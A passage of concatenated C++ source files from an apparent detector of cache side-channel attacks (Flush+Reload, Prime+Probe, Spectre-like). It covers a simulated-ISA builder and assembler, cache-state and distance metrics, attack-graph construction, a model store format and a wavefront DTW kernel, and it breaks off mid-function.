
  /// Places a label at the current position. Labels must be unique.
  ProgramBuilder& label(const std::string& name);

  /// Generic emit. Control-flow instructions must use the label overloads.
  ProgramBuilder& emit(Opcode op, Operand dst = Operand::none(),
                       Operand src = Operand::none());

  // -- Convenience emitters (non-control-flow) --------------------------
  ProgramBuilder& mov(Operand dst, Operand src) { return emit(Opcode::kMov, dst, src); }
  ProgramBuilder& lea(Operand dst, Operand src) { return emit(Opcode::kLea, dst, src); }
  ProgramBuilder& add(Operand dst, Operand src) { return emit(Opcode::kAdd, dst, src); }
  ProgramBuilder& sub(Operand dst, Operand src) { return emit(Opcode::kSub, dst, src); }
  ProgramBuilder& imul(Operand dst, Operand src) { return emit(Opcode::kImul, dst, src); }
  ProgramBuilder& xor_(Operand dst, Operand src) { return emit(Opcode::kXor, dst, src); }
  ProgramBuilder& and_(Operand dst, Operand src) { return emit(Opcode::kAnd, dst, src); }
  ProgramBuilder& or_(Operand dst, Operand src) { return emit(Opcode::kOr, dst, src); }
  ProgramBuilder& shl(Operand dst, Operand src) { return emit(Opcode::kShl, dst, src); }
  ProgramBuilder& shr(Operand dst, Operand src) { return emit(Opcode::kShr, dst, src); }
  ProgramBuilder& inc(Operand dst) { return emit(Opcode::kInc, dst); }
  ProgramBuilder& dec(Operand dst) { return emit(Opcode::kDec, dst); }
  ProgramBuilder& cmp(Operand a, Operand b) { return emit(Opcode::kCmp, a, b); }
  ProgramBuilder& test(Operand a, Operand b) { return emit(Opcode::kTest, a, b); }
  ProgramBuilder& push(Operand src) { return emit(Opcode::kPush, src); }
  ProgramBuilder& pop(Operand dst) { return emit(Opcode::kPop, dst); }
  ProgramBuilder& clflush(Operand m) { return emit(Opcode::kClflush, m); }
  ProgramBuilder& prefetch(Operand m) { return emit(Opcode::kPrefetch, m); }
  ProgramBuilder& mfence() { return emit(Opcode::kMfence); }
  ProgramBuilder& lfence() { return emit(Opcode::kLfence); }
  ProgramBuilder& rdtscp(Reg dst) { return emit(Opcode::kRdtscp, reg(dst)); }
  ProgramBuilder& nop() { return emit(Opcode::kNop); }
  ProgramBuilder& hlt() { return emit(Opcode::kHlt); }
  ProgramBuilder& ret() { return emit(Opcode::kRet); }

  // -- Control flow to labels (forward references allowed) --------------
  ProgramBuilder& jmp(const std::string& target) { return branch(Opcode::kJmp, target); }
  ProgramBuilder& je(const std::string& target) { return branch(Opcode::kJe, target); }
  ProgramBuilder& jne(const std::string& target) { return branch(Opcode::kJne, target); }
  ProgramBuilder& jl(const std::string& target) { return branch(Opcode::kJl, target); }
  ProgramBuilder& jle(const std::string& target) { return branch(Opcode::kJle, target); }
  ProgramBuilder& jg(const std::string& target) { return branch(Opcode::kJg, target); }
  ProgramBuilder& jge(const std::string& target) { return branch(Opcode::kJge, target); }
  ProgramBuilder& jb(const std::string& target) { return branch(Opcode::kJb, target); }
  ProgramBuilder& jbe(const std::string& target) { return branch(Opcode::kJbe, target); }
  ProgramBuilder& ja(const std::string& target) { return branch(Opcode::kJa, target); }
  ProgramBuilder& jae(const std::string& target) { return branch(Opcode::kJae, target); }
  ProgramBuilder& call(const std::string& target) { return branch(Opcode::kCall, target); }
  ProgramBuilder& branch(Opcode op, const std::string& target);

  // -- Data image --------------------------------------------------------
  /// Sets a 64-bit word in the initial data image.
  ProgramBuilder& data_word(std::uint64_t addr, std::uint64_t value);
  /// Declares a zero-filled region (records addresses for documentation;
  /// memory reads default to zero anyway).
  ProgramBuilder& data_region(std::uint64_t addr, std::uint64_t bytes,
                              std::uint64_t fill_word = 0);

  // -- Ground-truth annotation -------------------------------------------
  /// While enabled, every emitted instruction is marked attack-relevant.
  ProgramBuilder& mark_relevant(bool enabled);
  /// RAII-free scoped variant for one instruction.
  ProgramBuilder& relevant(Opcode op, Operand dst = Operand::none(),
                           Operand src = Operand::none());

  /// Sets the entry point to a label (defaults to the first instruction).
  ProgramBuilder& entry(const std::string& label_name);

  std::size_t current_index() const { return program_.size(); }

  /// Resolves all label references, validates, and returns the Program.
  /// The builder must not be reused afterwards.
  Program build();

 private:
  Program program_;
  struct Fixup {
    std::size_t instr_index;
    std::string label;
  };
  std::vector<Fixup> fixups_;
  std::string entry_label_;
  bool marking_ = false;
  bool built_ = false;
};

}  // namespace scag::isa
