#include "isa/assembler.h"

#include <cstdlib>
#include <optional>

#include "isa/builder.h"
#include "support/strings.h"
#include "support/trace.h"

namespace scag::isa {
namespace {

// Parses an integer literal (decimal or 0x-hex, optional leading '-').
std::optional<std::int64_t> parse_int(std::string_view s) {
  if (s.empty()) return std::nullopt;
  bool neg = false;
  std::size_t i = 0;
  if (s[0] == '-') {
    neg = true;
    i = 1;
  }
  if (i >= s.size()) return std::nullopt;
  int base = 10;
  if (s.size() - i > 2 && s[i] == '0' && (s[i + 1] == 'x' || s[i + 1] == 'X')) {
    base = 16;
    i += 2;
  }
  std::int64_t value = 0;
  bool any = false;
  for (; i < s.size(); ++i) {
    const char c = s[i];
    int digit;
    if (c >= '0' && c <= '9') digit = c - '0';
    else if (base == 16 && c >= 'a' && c <= 'f') digit = c - 'a' + 10;
    else if (base == 16 && c >= 'A' && c <= 'F') digit = c - 'A' + 10;
    else return std::nullopt;
    value = value * base + digit;
    any = true;
  }
  if (!any) return std::nullopt;
  return neg ? -value : value;
}

// Parses a memory operand body (without brackets): base+index*scale+disp.
std::optional<MemRef> parse_mem_body(std::string_view body) {
  MemRef m;
  // Tokenize on '+' / '-' keeping the sign with the term.
  std::vector<std::string> terms;
  std::string cur;
  for (char c : body) {
    if (c == '+' || c == '-') {
      if (!cur.empty()) terms.push_back(cur);
      cur.clear();
      if (c == '-') cur = "-";
    } else if (!std::isspace(static_cast<unsigned char>(c))) {
      cur += c;
    }
  }
  if (!cur.empty()) terms.push_back(cur);
  if (terms.empty()) return std::nullopt;

  bool saw_disp = false;
  for (const std::string& term : terms) {
    const std::size_t star = term.find('*');
    if (star != std::string::npos) {
      auto r = parse_reg(term.substr(0, star));
      auto sc = parse_int(term.substr(star + 1));
      if (!r || !sc || (*sc != 1 && *sc != 2 && *sc != 4 && *sc != 8))
        return std::nullopt;
      if (m.index != MemRef::kNoReg) return std::nullopt;
      m.index = static_cast<int>(*r);
      m.scale = static_cast<std::uint8_t>(*sc);
    } else if (auto r = parse_reg(term)) {
      if (m.base == MemRef::kNoReg) {
        m.base = static_cast<int>(*r);
      } else if (m.index == MemRef::kNoReg) {
        m.index = static_cast<int>(*r);
        m.scale = 1;
      } else {
        return std::nullopt;
      }
    } else if (auto v = parse_int(term)) {
      if (saw_disp) return std::nullopt;
      m.disp = *v;
      saw_disp = true;
    } else {
      return std::nullopt;
    }
  }
  return m;
}

std::optional<Operand> parse_operand(std::string_view tok) {
  std::string s = trim(tok);
  if (s.empty()) return std::nullopt;
  if (s.front() == '[') {
    if (s.back() != ']') return std::nullopt;
    auto m = parse_mem_body(std::string_view(s).substr(1, s.size() - 2));
    if (!m) return std::nullopt;
    return Operand::of_mem(*m);
  }
  if (auto r = parse_reg(s)) return Operand::of_reg(*r);
  if (auto v = parse_int(s)) return Operand::of_imm(*v);
  return std::nullopt;
}

// Strips a trailing comment starting at ';' or '#'.
std::string strip_comment(std::string_view line) {
  const std::size_t pos = line.find_first_of(";#");
  return trim(pos == std::string_view::npos ? line : line.substr(0, pos));
}

}  // namespace

Program assemble(std::string_view source, std::string program_name,
                 std::uint64_t code_base) {
  support::TraceScope span("assemble");
  ProgramBuilder b(std::move(program_name), code_base);
  std::size_t lineno = 0;
  bool have_entry = false;
  std::string entry_label;

  for (const std::string& raw : split(source, '\n')) {
    ++lineno;
    std::string line = strip_comment(raw);
    if (line.empty()) continue;

    // Directives.
    if (line[0] == '.') {
      const auto parts = split_ws(line);
      if (parts[0] == ".entry") {
        if (parts.size() != 2) throw AsmError(lineno, ".entry needs a label");
        entry_label = parts[1];
        have_entry = true;
      } else if (parts[0] == ".word") {
        if (parts.size() != 3) throw AsmError(lineno, ".word needs addr value");
        auto addr = parse_int(parts[1]);
        auto val = parse_int(parts[2]);
        if (!addr || !val) throw AsmError(lineno, "bad .word operands");
        b.data_word(static_cast<std::uint64_t>(*addr),
                    static_cast<std::uint64_t>(*val));
      } else {
        throw AsmError(lineno, "unknown directive " + parts[0]);
      }
      continue;
    }

    // Label definition.
    if (line.back() == ':') {
      const std::string name = trim(line.substr(0, line.size() - 1));
      if (name.empty() || split_ws(name).size() != 1)
        throw AsmError(lineno, "bad label");
      try {
        b.label(name);
      } catch (const std::invalid_argument& e) {
        throw AsmError(lineno, e.what());
      }
      continue;
    }

    // Instruction: mnemonic [op1[, op2]]
    const std::size_t sp = line.find_first_of(" \t");
    const std::string mnemonic =
        to_lower(sp == std::string::npos ? line : line.substr(0, sp));
    const std::string rest =
        sp == std::string::npos ? "" : trim(line.substr(sp));
    const auto op = parse_opcode(mnemonic);
    if (!op) throw AsmError(lineno, "unknown mnemonic " + mnemonic);

    if (is_control_flow(*op) && *op != Opcode::kRet) {
      if (rest.empty() || split_ws(rest).size() != 1)
        throw AsmError(lineno, mnemonic + " needs exactly one label target");
      b.branch(*op, rest);
      continue;
    }

    Operand dst, src;
    if (!rest.empty()) {
      const auto ops = split(rest, ',');
      if (ops.size() > 2) throw AsmError(lineno, "too many operands");
      auto d = parse_operand(ops[0]);
      if (!d) throw AsmError(lineno, "bad operand: " + trim(ops[0]));
      dst = *d;
      if (ops.size() == 2) {
        auto s2 = parse_operand(ops[1]);
        if (!s2) throw AsmError(lineno, "bad operand: " + trim(ops[1]));
        src = *s2;
      }
    }
    try {
      b.emit(*op, dst, src);
    } catch (const std::exception& e) {
      throw AsmError(lineno, e.what());
    }
  }

  if (have_entry) b.entry(entry_label);
  try {
    return b.build();
  } catch (const std::exception& e) {
    throw AsmError(lineno, e.what());
  }
}

}  // namespace scag::isa
