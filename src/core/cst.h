// Cache state transitions (paper Definitions 2-4 and Section III-A3).
//
// A cache state S = (AO, IO): AO is the fraction of cache lines occupied by
// the attack program, IO the fraction occupied by everyone else. The CST of
// a basic block b is S -b-> S'. To measure it we use the paper's scenario:
// start from a cache entirely full of non-attack data (IO = 1, AO = 0) and
// replay the block's recorded memory operations as the attacker.
#pragma once

#include <cmath>
#include <vector>

#include "cache/cache.h"
#include "core/bb_profile.h"

namespace scag::core {

/// Definition 3: cache state (AO, IO) with AO + IO <= 1.
struct CacheState {
  double ao = 0.0;
  double io = 0.0;

  bool operator==(const CacheState&) const = default;
};

/// Definition 4: the cache state transition of one basic block.
struct Cst {
  CacheState before;
  CacheState after;

  /// P_i of Section III-B1: the magnitude of the cache change.
  double change() const {
    return (std::abs(after.ao - before.ao) + std::abs(after.io - before.io)) /
           2.0;
  }
};

inline double abs_diff(double a, double b) { return a > b ? a - b : b - a; }

struct CstConfig {
  /// Geometry of the simulated cache the accesses are replayed against.
  /// Small enough that a PoC's working set moves the occupancy needle.
  cache::CacheConfig cache{64, 8, 64};
};

/// Replays a block's access records against a freshly prepared cache
/// (IO = 1, AO = 0) and returns the observed CST.
Cst measure_cst(const std::vector<AccessRecord>& accesses,
                const CstConfig& config = {});

}  // namespace scag::core
