#include "core/distance.h"

#include <algorithm>

#include "isa/normalize.h"

namespace scag::core {

std::size_t levenshtein(const std::vector<std::string>& a,
                        const std::vector<std::string>& b) {
  // Ensure the inner dimension is the shorter sequence.
  const auto& longer = a.size() >= b.size() ? a : b;
  const auto& shorter = a.size() >= b.size() ? b : a;
  const std::size_t n = shorter.size();
  if (n == 0) return longer.size();

  // Reused scratch row: this runs once per DP cell of the enclosing DTW,
  // so a fresh heap allocation per call dominated small-block distances.
  thread_local std::vector<std::size_t> row;
  row.resize(n + 1);
  for (std::size_t j = 0; j <= n; ++j) row[j] = j;
  for (std::size_t i = 1; i <= longer.size(); ++i) {
    std::size_t prev_diag = row[0];
    row[0] = i;
    for (std::size_t j = 1; j <= n; ++j) {
      const std::size_t del = row[j] + 1;
      const std::size_t ins = row[j - 1] + 1;
      const std::size_t sub =
          prev_diag + (longer[i - 1] == shorter[j - 1] ? 0 : 1);
      prev_diag = row[j];
      row[j] = std::min({del, ins, sub});
    }
  }
  return row[n];
}

double weighted_levenshtein(const std::vector<std::string>& a,
                            const std::vector<std::string>& b) {
  const std::size_t n = a.size(), m = b.size();
  thread_local std::vector<double> prev_scratch, cur_scratch;
  prev_scratch.resize(m + 1);
  cur_scratch.resize(m + 1);
  auto& prev = prev_scratch;
  auto& cur = cur_scratch;
  prev[0] = 0.0;
  for (std::size_t j = 1; j <= m; ++j)
    prev[j] = prev[j - 1] + isa::semantic_token_weight(b[j - 1]);
  for (std::size_t i = 1; i <= n; ++i) {
    cur[0] = prev[0] + isa::semantic_token_weight(a[i - 1]);
    for (std::size_t j = 1; j <= m; ++j) {
      const double del = prev[j] + isa::semantic_token_weight(a[i - 1]);
      const double ins = cur[j - 1] + isa::semantic_token_weight(b[j - 1]);
      const double sub =
          prev[j - 1] + isa::semantic_subst_cost(a[i - 1], b[j - 1]);
      cur[j] = std::min({del, ins, sub});
    }
    std::swap(prev, cur);
  }
  return prev[m];
}

namespace {

double total_weight(const std::vector<std::string>& tokens) {
  double w = 0.0;
  for (const std::string& t : tokens) w += isa::semantic_token_weight(t);
  return w;
}

}  // namespace

double instruction_distance(const CstBbsElement& a, const CstBbsElement& b,
                            const DistanceConfig& config) {
  switch (config.alphabet) {
    case IsAlphabet::kFullTokens: {
      const std::size_t longest =
          std::max(a.norm_instrs.size(), b.norm_instrs.size());
      if (longest == 0) return 0.0;
      return static_cast<double>(levenshtein(a.norm_instrs, b.norm_instrs)) /
             static_cast<double>(longest);
    }
    case IsAlphabet::kSemanticWeighted: {
      const double denom =
          std::max(total_weight(a.sem_tokens), total_weight(b.sem_tokens));
      if (denom == 0.0) return 0.0;
      return std::min(
          1.0, weighted_levenshtein(a.sem_tokens, b.sem_tokens) / denom);
    }
  }
  return 0.0;
}

double csp_distance(const Cst& a, const Cst& b) {
  return abs_diff(a.change(), b.change());
}

double cst_distance(const CstBbsElement& a, const CstBbsElement& b,
                    const DistanceConfig& config) {
  return config.is_weight * instruction_distance(a, b, config) +
         (1.0 - config.is_weight) * csp_distance(a.cst, b.cst);
}

}  // namespace scag::core
