// scag-store-v1: the zero-copy model store.
//
// The text repository format (core/serialize.h) is the interchange/debug
// path: line-oriented, human-diffable, hex-exact floats. But every process
// that loads it pays parse + compile (token interning, SoA layout, feature
// precompute) before the first target can be scanned — a startup tax that
// dominates short-lived invocations and is paid N times by N workers. The
// store fixes this by making the on-disk format BE the compiled
// representation:
//
//   file      := header | section table | sections...
//   header    := magic "SCAGSTR1", version, endianness probe, IEEE-754
//                double probe, scan alphabet, model/unique-element counts,
//                file size, FNV-1a header checksum          (64 bytes)
//   sections  := norm-token strings | sem-token strings | token meta
//                (weights + semantic classes) | token probe table (open
//                addressing, FNV-1a + linear probe) | one SHARD per attack
//                family
//   shard     := model names + enrollment-order directory + flat SoA
//                element arrays (block ids, cycles, Cst doubles, token-id
//                spans for BOTH alphabets, global dedup ids, per-element
//                envelope features) + per-model envelope scalars + the
//                9-dim k-NN triage vectors
//
// Every section is 64-byte aligned and independently FNV-1a checksummed;
// all integers are fixed-width and the header probes reject a foreign
// endianness or double layout instead of misreading it. A scan process
// mmaps the file read-only and Detector/BatchDetector scan directly out
// of the mapping — zero parse, zero compile, zero per-worker copies (N
// processes share one page-cache mapping). Token and dedup id spaces are
// global (first occurrence in enrollment order), so appending a family's
// new mutants at the end of the text repository and re-packing leaves
// every other family's shard byte-identical — the incremental-update
// story is "re-emit one shard".
//
// Invariants (tests/test_store.cpp, tests/differential_scan.h):
//   - pack -> unpack round-trips the text format bit-exactly;
//   - packing a fixed corpus is byte-deterministic;
//   - a store-backed scan is verdict/best-score/winner BIT-IDENTICAL to
//     the text-loaded scan on every kernel and thread count;
//   - a hostile or truncated store never crashes the reader: every
//     section offset/length/alignment, every id, every offset table, and
//     the model directory permutation are validated at open() before any
//     typed pointer is formed (FuzzStore feeds mutated bytes).
#pragma once

#include <cstdint>
#include <memory>
#include <stdexcept>
#include <string>
#include <string_view>
#include <vector>

#include "core/compiled.h"
#include "core/family.h"
#include "core/model.h"
#include "ml/features.h"

namespace scag::core {

/// Malformed, corrupt, truncated, or version-mismatched store data, and
/// store I/O failures. Terminal: retrying will not help (unlike IoError).
class StoreError : public std::runtime_error {
 public:
  using std::runtime_error::runtime_error;
};

struct StoreOptions {
  /// Re-hash every section payload against its checksum at open. The
  /// structural validation (offsets, ids, permutations) always runs; the
  /// full hash costs one pass over the file, so the scan hot path leaves
  /// it off and `scagctl repo info` / `repo unpack` turn it on.
  bool verify_checksums = false;
};

struct StoreSectionInfo {
  std::string name;        // "norm-strings", "shard", ...
  std::uint32_t kind = 0;
  Family shard_family = Family::kCount;  // kCount for global sections
  std::uint32_t shard_models = 0;        // shard sections only
  std::uint64_t offset = 0;
  std::uint64_t bytes = 0;
  std::uint64_t checksum = 0;
};

/// Header + directory dump for `scagctl repo info`.
struct StoreInfo {
  std::uint32_t version = 0;
  IsAlphabet alphabet = IsAlphabet::kFullTokens;
  std::uint64_t file_bytes = 0;
  std::uint32_t model_count = 0;
  std::uint32_t unique_elements = 0;
  std::uint32_t norm_tokens = 0;
  std::uint32_t sem_tokens = 0;
  std::size_t shard_count = 0;
  bool checksums_verified = false;
  std::vector<StoreSectionInfo> sections;
};

/// An open scag-store-v1 image: an mmap of the file (or an owned,
/// 8-aligned byte buffer for in-memory use) plus the validated typed
/// directory over it. Immutable and safe to share across threads; keep
/// the shared_ptr alive as long as any view into it is used —
/// Detector::attach_store holds one for exactly that reason.
class ModelStore {
 public:
  /// Maps `path` read-only and validates the image (see StoreOptions).
  /// Throws StoreError on I/O failure or any validation failure.
  static std::shared_ptr<const ModelStore> open(const std::string& path,
                                                const StoreOptions& opts = {});
  /// Same validation over an in-memory image (tests, fuzzing, benches).
  static std::shared_ptr<const ModelStore> from_bytes(
      std::vector<std::uint8_t> bytes, const StoreOptions& opts = {});

  ModelStore(const ModelStore&) = delete;
  ModelStore& operator=(const ModelStore&) = delete;
  ~ModelStore();

  std::size_t num_models() const { return names_.size(); }
  std::string_view model_name(std::size_t j) const { return names_[j]; }
  Family model_family(std::size_t j) const { return families_[j]; }
  IsAlphabet alphabet() const { return alphabet_; }
  std::uint32_t unique_elements() const { return unique_elements_; }
  /// True when backed by a real file mapping (false for from_bytes).
  bool mapped() const { return is_mmap_; }

  /// The zero-copy compiled form: token tables and per-model views
  /// pointing straight into the mapping. `dc.alphabet` must equal
  /// alphabet() (the compiled form is alphabet-specific); throws
  /// StoreError otherwise.
  CompiledRepository::StoreView compiled_view(const DistanceConfig& dc) const;

  /// Precomputed 9-dim triage vectors / families in enrollment order, for
  /// ScanIndex::load.
  std::vector<ml::FeatureVector> triage_vectors() const;
  std::vector<Family> model_families() const;

  /// Materializes the text-form models (enrollment order). The inverse of
  /// pack: unpack(pack(models)) == models bit-exactly.
  std::vector<AttackModel> unpack() const;

  StoreInfo info() const;

 private:
  ModelStore() = default;
  struct Impl;
  std::unique_ptr<Impl> impl_;

  // Hot-path directory, filled by validation.
  std::vector<std::string_view> names_;
  std::vector<Family> families_;
  IsAlphabet alphabet_ = IsAlphabet::kFullTokens;
  std::uint32_t unique_elements_ = 0;
  bool is_mmap_ = false;
};

/// True when `path` exists and starts with the scag-store-v1 magic (the
/// sniff scagctl uses to accept either repository format for `scan`).
bool is_store_file(const std::string& path);

/// Compiles `models` (in enrollment order, exactly as Detector::enroll
/// would) and serializes the compiled form. Deterministic: identical
/// models + config produce identical bytes. Throws StoreError on
/// duplicate model names or out-of-range families.
std::vector<std::uint8_t> pack_store_bytes(
    const std::vector<AttackModel>& models, const DistanceConfig& dc);

/// pack_store_bytes + atomic write (temp file + rename, like
/// save_models_to_file). Throws StoreError on I/O failure.
void pack_store(const std::string& path,
                const std::vector<AttackModel>& models,
                const DistanceConfig& dc);

}  // namespace scag::core
