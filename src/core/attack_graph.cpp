#include "core/attack_graph.h"

#include <unordered_map>

namespace scag::core {

using cfg::BlockId;
using cfg::Digraph;
using cfg::WeightedEdge;

AttackGraph build_attack_graph(const cfg::Cfg& cfg,
                               const std::vector<BbStats>& stats,
                               const std::vector<BlockId>& relevant,
                               const AttackGraphConfig& config) {
  const std::size_t n = cfg.num_blocks();
  AttackGraph out;
  out.graph = Digraph(n);
  out.in_graph.assign(n, false);
  out.relevant = relevant;
  for (BlockId id : relevant) out.in_graph[id] = true;
  if (relevant.size() < 2) return out;

  // Step 1: loop-free copy of the CFG.
  Digraph dag(n);
  for (BlockId b = 0; b < n; ++b)
    for (BlockId s : cfg.successors(b)) dag.add_edge(b, s);
  cfg::remove_back_edges(dag, cfg.entry_block());

  // Step 3: pair graph G'. For every ordered pair of relevant blocks,
  // enumerate candidate paths avoiding other relevant blocks and keep the
  // best-scoring path as the pair's edge label.
  std::vector<bool> blocked(n, false);
  for (BlockId id : relevant) blocked[id] = true;

  // Node remap for the spanning-forest computation.
  std::unordered_map<BlockId, std::uint32_t> compact;
  for (std::uint32_t i = 0; i < relevant.size(); ++i)
    compact[relevant[i]] = i;

  std::vector<std::vector<std::uint32_t>> stored_paths;
  std::vector<WeightedEdge> edges;

  for (BlockId vi : relevant) {
    for (BlockId vj : relevant) {
      if (vi == vj) continue;
      const auto paths =
          cfg::paths_avoiding(dag, vi, vj, blocked, config.path_limits);
      double best_value = -1.0;
      const std::vector<std::uint32_t>* best_path = nullptr;
      for (const auto& path : paths) {
        double value;
        if (path.size() == 2) {
          value = config.direct_edge_weight;  // directly connected: MAX
        } else {
          double sum = 0.0;
          for (std::size_t k = 1; k + 1 < path.size(); ++k)
            sum += static_cast<double>(stats[path[k]].hpc_value);
          value = sum / static_cast<double>(path.size() - 2);
        }
        if (value > best_value) {
          best_value = value;
          best_path = &path;
        }
      }
      if (best_path != nullptr) {
        stored_paths.push_back(*best_path);
        edges.push_back({compact[vi], compact[vj], best_value,
                         stored_paths.size() - 1});
      }
    }
  }

  // Step 4: maximum spanning tree (forest if G' is disconnected).
  const std::vector<std::size_t> chosen =
      cfg::max_spanning_forest(relevant.size(), edges);

  // Step 5: restore the labeled paths of the chosen edges.
  for (std::size_t idx : chosen) {
    const auto& path = stored_paths[edges[idx].payload];
    for (std::size_t k = 0; k + 1 < path.size(); ++k) {
      out.graph.add_edge(path[k], path[k + 1]);
      out.in_graph[path[k]] = true;
      out.in_graph[path[k + 1]] = true;
    }
  }
  return out;
}

}  // namespace scag::core
