#include "core/family.h"

namespace scag::core {

std::string_view family_name(Family f) {
  switch (f) {
    case Family::kFlushReload: return "Flush+Reload Family";
    case Family::kPrimeProbe: return "Prime+Probe Family";
    case Family::kSpectreFR: return "Spectre-like Variants of FR";
    case Family::kSpectrePP: return "Spectre-like Variants of PP";
    case Family::kBenign: return "Benign";
    case Family::kCount: break;
  }
  return "<bad-family>";
}

std::string_view family_abbrev(Family f) {
  switch (f) {
    case Family::kFlushReload: return "FR-F";
    case Family::kPrimeProbe: return "PP-F";
    case Family::kSpectreFR: return "S-FR";
    case Family::kSpectrePP: return "S-PP";
    case Family::kBenign: return "Benign";
    case Family::kCount: break;
  }
  return "<bad-family>";
}

std::optional<Family> parse_family(std::string_view abbrev) {
  for (int i = 0; i < static_cast<int>(Family::kCount); ++i) {
    const Family f = static_cast<Family>(i);
    if (family_abbrev(f) == abbrev) return f;
  }
  return std::nullopt;
}

}  // namespace scag::core
