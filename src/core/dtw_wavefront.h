// Anti-diagonal (wavefront) DTW kernel, bit-identical to the row-major
// scalar DP in core/dtw.h.
//
// Cell (i, j) of the DP matrix depends on (i-1, j-1), (i-1, j) and
// (i, j-1). On anti-diagonal d = i + j those predecessors live on
// diagonals d-2, d-1 and d-1: every in-band cell of one diagonal is
// independent of the others, so the 3-way min + cost add vectorizes
// (core/simd.h), and — just as importantly — the scalar row loop's serial
// cur[j-1] dependency chain disappears.
//
// Layout: diagonal arrays are indexed by column j, D_d[j] = dp[d-j][j].
// Three rolling arrays of size m + 2 + simd::kLanePad hold diagonals d-2,
// d-1 and d; each produced diagonal writes its in-band range [j_lo, j_hi]
// padded to a full vector multiple of ghost lanes, then one +inf sentinel
// on either side, which covers every read later diagonals make (j_lo is
// non-decreasing in d and j_hi grows by at most one, so neither stale
// values from the recycled d-2 buffer nor ghost-lane garbage is ever
// read). Warping-path step
// counts ride in parallel double arrays (exact integers far below 2^53)
// and are blended with the same comparison masks as the values, so the
// tie-break chain (diagonal, then insertion, then deletion, strict <)
// matches the scalar kernel decision for decision.
//
// Early abandon keeps the scalar kernel's row-minimum semantics: lane
// minima are folded into per-row minima (lane j of diagonal d belongs to
// row i = d - j), and row r is complete once diagonal d = r + min(m, r+w)
// has been produced. That completion point is strictly increasing in r,
// so at most one row completes per diagonal and rows are tested in the
// same order, against the same minima, as the scalar loop — the kernel
// abandons on the same row with the same returned bound. (Cells of later,
// incomplete rows may have been computed by then; the cost functor is
// pure — memoized in the compiled path — so the extra evaluations are
// unobservable.)
//
// Not installed with the public headers' guarantees in mind: include from
// core code, tests and benches. Production scans reach this kernel only
// through DtwConfig::kernel (see dtw_run below).
#pragma once

#include <algorithm>
#include <cmath>
#include <cstddef>
#include <cstdint>
#include <limits>
#include <vector>

#include "core/dtw.h"
#include "core/simd.h"
#include "support/metrics.h"

namespace scag::core {

namespace detail {

/// Thread-local scratch for the wavefront DP: three rolling value/step
/// diagonal pairs, the per-diagonal cost gather buffer, and the per-row
/// minima used by early abandon. Shared by every CostFn instantiation
/// (the buffers are plain doubles), so steady-state scans allocate
/// nothing once the high-water sequence length has been seen.
struct WavefrontScratch {
  std::vector<double> val[3];
  std::vector<double> steps[3];
  std::vector<double> cost;
  std::vector<double> row_min;
};

inline WavefrontScratch& wavefront_scratch() {
  thread_local WavefrontScratch scratch;
  return scratch;
}

}  // namespace detail

/// Wavefront twin of the scalar dtw() template: same inputs, same
/// counters, bit-identical DtwResult (distance, path_length, abandoned)
/// for every configuration — enforced by tests/test_simd_kernel.cpp and
/// the FuzzSimd case in tests/test_fuzz.cpp. Always runs the wavefront
/// algorithm; callers wanting the SCAG_SIMD escape hatch go through
/// dtw_run().
template <class CostFn>
DtwResult dtw_wavefront(
    std::size_t n, std::size_t m, CostFn&& cost, const DtwConfig& config = {},
    double abandon_above = std::numeric_limits<double>::infinity()) {
  constexpr double kInf = std::numeric_limits<double>::infinity();
  static support::Counter& c_calls =
      support::Registry::global().counter("dtw.calls");
  static support::Counter& c_cells =
      support::Registry::global().counter("dtw.dp_cells");
  static support::Counter& c_abandoned =
      support::Registry::global().counter("dtw.abandoned");
  static support::Counter& c_wavefront =
      support::Registry::global().counter("dtw.wavefront_calls");
  c_calls.add();
  c_wavefront.add();
  detail::CellCountFlusher flusher(c_cells);

  if (config.deadline_ns != 0 && support::monotonic_ns() >= config.deadline_ns)
    throw ScanTimeoutError();

  DtwResult result;
  if (n == 0 && m == 0) return result;
  if (n == 0 || m == 0) {
    result.distance = static_cast<double>(n + m);  // all unmatched, cost 1
    result.path_length = n + m;
    return result;
  }

  const bool may_abandon = std::isfinite(abandon_above);
  const std::size_t w =
      config.window == 0 ? std::max(n, m)
                         : std::max(config.window,
                                    n > m ? n - m : m - n);  // feasibility

  detail::WavefrontScratch& ws = detail::wavefront_scratch();
  // One sentinel column on each side of the band plus up to kLanePad - 1
  // ghost lanes past j_hi + 1 (see the padded step call below): the
  // highest index touched is j_lo + plen - 1 <= j_hi + 3 <= m + 3.
  const std::size_t cols = m + 2 + simd::kLanePad;
  if (ws.val[0].size() < cols) {
    for (int q = 0; q < 3; ++q) {
      ws.val[q].resize(cols);
      ws.steps[q].resize(cols);
    }
    ws.cost.resize(cols);
  }
  if (may_abandon) ws.row_min.assign(n + 1, kInf);

  double* d2 = ws.val[0].data();   // diagonal d-2
  double* d1 = ws.val[1].data();   // diagonal d-1
  double* d0 = ws.val[2].data();   // diagonal d (being produced)
  double* s2 = ws.steps[0].data();
  double* s1 = ws.steps[1].data();
  double* s0 = ws.steps[2].data();
  // Stale scratch beyond these six cells is never read: diagonal d = 2
  // reads only d2[0] and d1[0..1], diagonal 3 reads the rotated d2 (this
  // d1) only at [0..1], and every later read lands in a range a produced
  // diagonal wrote (in-band cells plus the two sentinels). So the O(m)
  // full-array clear the first version did is unnecessary — a measurable
  // tax on the short sequences the scan actually compares.
  d2[0] = 0.0;  // dp[0][0]; every other boundary cell is +inf
  s2[0] = 0.0;
  d1[0] = kInf;  // dp[1][0] and dp[0][1]
  d1[1] = kInf;
  s1[0] = 0.0;
  s1[1] = 0.0;

  const simd::DiagStepFn step = simd::diag_step();
  double* cbuf = ws.cost.data();
  std::size_t next_complete_row = 1;

  for (std::size_t d = 2; d <= n + m; ++d) {
    if (config.deadline_ns != 0 &&
        support::monotonic_ns() >= config.deadline_ns)
      throw ScanTimeoutError();

    // In-band columns of diagonal d: j in [1, m], row i = d - j in [1, n],
    // |i - j| <= w. The band is never empty for d in [2, n+m] because
    // w >= |n - m| keeps the end cell reachable.
    std::size_t j_lo = 1;
    if (d > n) j_lo = std::max(j_lo, d - n);
    if (d > w) j_lo = std::max(j_lo, (d - w + 1) / 2);
    const std::size_t j_hi = std::min({m, d - 1, (d + w) / 2});
    const std::size_t len = j_hi - j_lo + 1;
    flusher.cells += len;

    // Gather the cell costs: scalar lane loop by default (the functor may
    // intern/memoize), or the functor's own anti-diagonal bulk gather when
    // it provides one (the compiled kernel's memo-table lookup does; see
    // PairContext::gather_diag). The contract is the same either way —
    // cbuf[j] = cost(d - j - 1, j - 1) for every in-band j, bit-for-bit.
    if constexpr (requires { cost.gather_diag(d, j_lo, j_hi, cbuf); }) {
      cost.gather_diag(d, j_lo, j_hi, cbuf);
    } else {
